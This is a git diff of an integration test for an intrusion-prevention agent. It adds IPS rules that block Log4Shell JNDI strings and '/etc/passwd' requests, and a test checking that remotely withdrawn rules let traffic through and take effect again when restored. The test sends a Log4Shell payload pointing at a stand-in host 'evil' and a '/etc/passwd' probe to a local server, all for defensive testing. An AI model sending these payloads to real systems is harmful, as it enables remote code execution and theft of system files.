@@ -4,7 +4,8 @@ import net from 'node:net';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
 import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
-import type { HostConfig } from '../../shared/domain/policy/host-config.ts';
+import type { HostConfig, HostRule } from '../../shared/domain/policy/host-config.ts';
+import type { RuleKills } from '../../shared/schema/agent/rule-kills.ts';
 import { startTestPlane, TENANT, type TestPlane, TOKEN } from '../support/agent-plane.ts';
 import { skipReason } from './rig/requirements.ts';
 import { get, WEB } from './rig/rules.ts';
@@ -13,6 +14,20 @@ import { CLIENT, createWorld, SERVER, type World } from './rig/world.ts';
 
 const CLI = fileURLToPath(new URL('../../agent/src/cli/main.ts', import.meta.url));
 const AGENT = [process.execPath, '--no-warnings', CLI];
+
+const ipsRule = (ID: number, name: string, content: string): HostRule => ({
+  ID,
+  name,
+  severity: 'critical',
+  applicationTypeID: 1,
+  signatures: [
+    `drop http any any -> any any (msg:"x"; content:"${content}"; http.uri; sid:${1_000_000 + ID}; rev:1;)`,
+  ],
+  action: 'reset',
+  detectOnly: false,
+  protocol: 'tcp',
+  ports: [String(WEB)],
+});
 
 const config: HostConfig = {
   format: 1,
@@ -35,21 +50,7 @@ const config: HostConfig = {
     state: 'prevent',
     engineMode: 'inline',
     onFailure: 'open',
-    rules: [
-      {
-        ID: 1,
-        name: 'Log4Shell',
-        severity: 'critical',
-        applicationTypeID: 1,
-        signatures: [
-          'drop http any any -> any any (msg:"x"; content:"${jndi|3a|"; http.uri; sid:1000001; rev:1;)',
-        ],
-        action: 'reset',
-        detectOnly: false,
-        protocol: 'tcp',
-        ports: [String(WEB)],
-      },
-    ],
+    rules: [ipsRule(1, 'Log4Shell', '${jndi|3a|'), ipsRule(2, 'Passwords', '/etc/passwd')],
   },
 };
 
@@ -97,11 +98,11 @@ describe.skipIf(skipReason() !== null)('the agent as its administrator has it', 
         }),
       { timeout: 20_000, interval: 300 },
     );
-  const attack = () =>
+  const attack = (path = '/?x=${jndi:ldap://evil/a}') =>
     world.client.call<Exchange>('exchange', {
       host: SERVER,
       port: WEB,
-      parts: [get('/?x=${jndi:ldap://evil/a}')],
+      parts: [get(path)],
       until: 'HTTP/1.1',
       timeoutMs: 2000,
     });
@@ -136,6 +137,30 @@ describe.skipIf(skipReason() !== null)('the agent as its administrator has it', 
     await plane.close();
     await world.end();
   });
+
+  it('lets traffic pass that a withdrawn rule stopped, from one beat to the next, and stops it when the rule is back', async () => {
+    const give = async (sequence: number, rules: RuleKills['rules']): Promise<void> => {
+      const list = await plane.signKills({ sequence, issued: Date.now(), rules });
+      plane.todo = [{ what: 'rule-kills', list }];
+      await command('beat');
+    };
+    const told = async (): Promise<string> => {
+      await command('beat');
+      return JSON.stringify(plane.events());
+    };
+    start();
+    await protecting();
+    expect((await attack()).end).not.toBe('enough');
+    await give(1, [{ ID: 1 }]);
+    expect((await attack()).end).toBe('enough');
+    await vi.waitFor(async () => expect(await told()).toContain('has withdrawn rules 1 (list 1)'), 10_000);
+    expect(plane.beats.at(-1)).toMatchObject({ kills: 1, refusedRules: [{ ruleID: 1 }] });
+    expect(await status()).toMatchObject({ inspection: { bound: true } });
+    expect((await attack('/etc/passwd')).end).not.toBe('enough');
+    await give(2, []);
+    expect((await attack()).end).not.toBe('enough');
+    await vi.waitFor(async () => expect(await told()).toContain('every rule run again (list 2)'), 10_000);
+  }, 60_000);
 
   it('says with its beats that inspection is off while its process keeps dying, lets traffic pass, and takes it back', async () => {
     start();
